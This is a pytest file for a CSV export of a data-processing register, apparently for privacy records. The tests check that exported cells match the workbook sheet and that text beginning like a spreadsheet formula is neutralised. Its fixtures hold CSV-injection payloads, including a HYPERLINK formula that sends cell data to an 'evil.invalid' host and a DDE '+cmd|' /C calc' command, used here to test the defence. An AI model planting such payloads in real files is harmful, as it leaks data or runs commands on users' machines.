"""`ropa export --format csv`: the Register sheet's rows, RFC 4180, never blank for a gap, formulas neutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ropa.export import neutralise, register_csv
from ropa.export.csv_rows import FORMULA_STARTS
from ropa.loading.discover import registers_in
from ropa.model import Register
from ropa.model.enums import Language
from ropa.reference.labels import labels_for
from ropa.render.context import RenderInput
from ropa.render.excel import render
from tests.conftest import ROOT, minimal_data, valid_register, write_variant

SHIPPED = registers_in(ROOT / "policies") + registers_in(ROOT / "tests" / "examples" / "valid")
MINIMAL = ROOT / "tests" / "examples" / "valid" / "minimal" / "register.yaml"
INTERNAL = ROOT / "tests" / "examples" / "valid" / "internal" / "register.yaml"
#: Optional free text: empty when the activity has none (nothing is missing), as in the workbook.
OPTIONAL = ("Description", "Notes")


def _rows(data: bytes) -> list[list[str]]:
    """The CSV as the csv module reads it back."""
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet(register: Register, lang: str | None = None) -> list[list[str]]:
    """The workbook's Register sheet as cell texts (a blank cell as '')."""
    language = Language(lang or labels_for(register.info.language))
    data = RenderInput(register=register, source_path="register.yaml", sha256="0" * 64, language=language)
    sheet = openpyxl.load_workbook(io.BytesIO(render(data))).worksheets[0]
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def _name(path: Path) -> str:
    return str(path.relative_to(ROOT))


@pytest.mark.parametrize("path", SHIPPED, ids=_name)
def test_csv_holds_the_register_sheets_cell_texts(path: Path) -> None:
    """Row for row and cell for cell the Register sheet; the header is each column's label (the line above the article)."""
    register = valid_register(path)
    rows, sheet = _rows(register_csv(register)), _sheet(register)
    assert rows[0] == [neutralise(h.split("\n")[0]) for h in sheet[0]]
    assert rows[1:] == [[neutralise(text) for text in row] for row in sheet[1:]]
    assert len(rows) - 1 == sum(a.role.value == "controller" for a in register.activities)


def test_csv_is_rfc_4180_with_crlf_rows_and_cells_keeping_their_line_breaks() -> None:
    data = register_csv(valid_register(ROOT / "policies" / "cm" / "register-2018-08-15.yaml"))
    body = data.decode("utf-8-sig")
    rows = _rows(data)
    assert body.endswith("\r\n")
    assert body.count("\r\n") >= len(rows)
    assert "\r" not in body.replace("\r\n", "")
    assert any("\n" in cell for row in rows for cell in row), "multi-line cells (bullets) stay one cell"
    assert {len(row) for row in rows} == {len(rows[0])}


@pytest.mark.parametrize(("path", "gap"), [(MINIMAL, "Not stated in source"), (INTERNAL, "Not recorded")])
def test_gaps_read_as_in_the_workbook_never_blank(path: Path, gap: str) -> None:
    rows = _rows(register_csv(valid_register(path)))
    header, body = rows[0], rows[1:]
    assert any(cell == gap for row in body for cell in row)
    blank = {header[i] for row in body for i, cell in enumerate(row) if cell == ""}
    assert blank <= set(OPTIONAL)


def test_headers_and_labels_in_another_language() -> None:
    register = valid_register(MINIMAL)
    rows = _rows(register_csv(register, lang="sv"))
    sheet = _sheet(register, "sv")
    assert rows[0] == [h.split("\n")[0] for h in sheet[0]]
    assert rows[0] != _rows(register_csv(register))[0]
    assert rows[1:] == sheet[1:]
    assert "Anges inte i källan" in rows[1]


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x","y")'])
def test_a_formula_start_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Newsletter", "'quoted", " =spaced", "a=b", "• -bullet", "1-2"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def _hostile(tmp_path: Path) -> Path:
    """The minimal register with free texts a spreadsheet would run as formulas."""
    data: dict[str, Any] = minimal_data()
    act = data["activities"][0]
    act["name"] = '=HYPERLINK("http://evil.invalid/?"&A1,"Newsletter")'
    act["description"] = "+cmd|' /C calc'!A0"
    act["purposes"][0]["description"] = "-2+3"
    act["business_function"] = {"not_stated": True, "note": "@SUM(1+1)"}
    data["data_subject_categories"][0]["name"] = "=1+1"
    return write_variant(tmp_path, data)


def test_a_register_whose_texts_start_like_formulas_is_neutralised(tmp_path: Path) -> None:
    """Each such cell reads back as the workbook's text behind a `'`; no cell starts a formula."""
    register = valid_register(_hostile(tmp_path))
    rows, sheet = _rows(register_csv(register)), _sheet(register)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Processing activity"] == "'" + '=HYPERLINK("http://evil.invalid/?"&A1,"Newsletter")'
    assert row["Description"] == "'+cmd|' /C calc'!A0"
    assert row["Purposes of the processing"] == "'-2+3"
    assert row["Categories of data subjects"] == "'=1+1"
    changed = [(c, s) for c, s in zip(rows[1], sheet[1], strict=True) if c != s]
    assert changed
    assert all(c == "'" + s for c, s in changed)
    assert len(changed) == 4
